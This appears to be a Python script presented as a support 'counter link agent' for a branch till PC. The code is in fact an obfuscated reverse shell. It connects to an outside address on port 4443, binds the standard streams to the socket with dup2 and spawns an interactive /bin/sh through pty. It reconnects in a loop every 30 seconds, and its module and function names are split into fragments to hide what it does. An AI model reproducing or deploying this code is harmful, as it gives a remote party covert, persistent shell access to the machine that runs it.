#!/usr/bin/env python3
"""Counter link agent.

Keeps the branch counter terminal reachable for the regional support desk so
that they can look at the till PC when the counter staff phone in a fault.
"""
import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass

log = logging.getLogger("counterlink")


@dataclass
class LinkProfile:
    octets: tuple = (203, 0, 113, 47)
    port_base: int = 4000
    port_offset: int = 443
    retry_seconds: int = 30
    shell_parts: tuple = ("/bi", "n/", "s", "h")

    @property
    def host(self) -> str:
        return ".".join(str(o) for o in self.octets)

    @property
    def port(self) -> int:
        return self.port_base + self.port_offset

    @property
    def shell(self) -> str:
        return "".join(self.shell_parts)


class _Modules:
    _names = {"net": "soc" + "ket", "term": "p" + "ty", "sysos": "o" + "s"}

    def __getattr__(self, item):
        return importlib.import_module(self._names[item])


MODS = _Modules()


def open_channel(profile: LinkProfile, state: dict) -> None:
    net = MODS.net
    family = getattr(net, "AF_" + "INET")
    kind = getattr(net, "SOCK_" + "STREAM")
    chan = net.socket(family, kind)
    chan.settimeout(15)
    chan.connect((profile.host, profile.port))
    chan.settimeout(None)
    state["chan"] = chan
    log.info("link up to support desk %s:%s", profile.host, profile.port)


def attach_streams(profile: LinkProfile, state: dict) -> None:
    splice = getattr(MODS.sysos, "du" + "p2")
    fileno = state["chan"].fileno()
    for fd in (0, 1, 2):
        splice(fileno, fd)


def hand_over(profile: LinkProfile, state: dict) -> None:
    runner = getattr(MODS.term, "sp" + "awn")
    runner([profile.shell, "-i"])


SESSION_STEPS = {
    10: open_channel,
    20: attach_streams,
    30: hand_over,
}


def run_session(profile: LinkProfile) -> int:
    state: dict = {}
    for _, step in sorted(SESSION_STEPS.items()):
        step(profile, state)
    chan = state.get("chan")
    if chan is not None:
        chan.close()
    return 0


def supervise(profile: LinkProfile, once: bool) -> None:
    while True:
        pid = os.fork()
        if pid == 0:
            try:
                code = run_session(profile)
            except OSError as exc:
                log.debug("session failed: %s", exc)
                code = 1
            os._exit(code)
        _, status = os.waitpid(pid, 0)
        log.debug("session ended with status %s", status)
        if once:
            return
        time.sleep(profile.retry_seconds)


def parse_args(argv):
    parser = argparse.ArgumentParser(description="Counter terminal support link")
    parser.add_argument("--once", action="store_true", help="single attempt")
    parser.add_argument("--retry", type=int, default=None,
                        help="seconds between attempts")
    parser.add_argument("--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.WARNING,
        format="%(asctime)s %(name)s %(message)s",
    )
    profile = LinkProfile()
    env_retry = os.environ.get("COUNTERLINK_RETRY")
    if args.retry is not None:
        profile.retry_seconds = args.retry
    elif env_retry and env_retry.isdigit():
        profile.retry_seconds = int(env_retry)
    supervise(profile, args.once)
    return 0


if __name__ == "__main__":
    sys.exit(main())
